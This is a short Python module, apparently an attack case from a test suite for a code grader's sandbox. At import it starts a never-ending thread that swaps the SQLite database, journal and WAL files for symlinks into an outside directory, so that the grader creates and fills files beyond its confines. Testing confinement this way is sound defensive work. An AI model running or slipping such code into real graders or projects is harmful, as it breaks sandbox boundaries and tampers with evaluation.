"""Attack: have the grader, which nothing confines, create and fill files elsewhere."""

import contextlib
import os
import threading
from pathlib import Path

from fastapi import FastAPI

from .targets import OUTSIDE, acted

app = FastAPI()
location = Path.cwd() / "database.sqlite3"


def link():
    for name in ("database.sqlite3-journal", "database.sqlite3-wal", "database.sqlite3"):
        with contextlib.suppress(OSError):
            os.symlink(Path(OUTSIDE, f"planted-{name}"), f"new-{name}")
            os.rename(f"new-{name}", name)


def link_for_ever():
    while True:
        link()
        with contextlib.suppress(OSError):
            location.unlink()


acted("import")
link()
threading.Thread(target=link_for_ever, daemon=True).start()
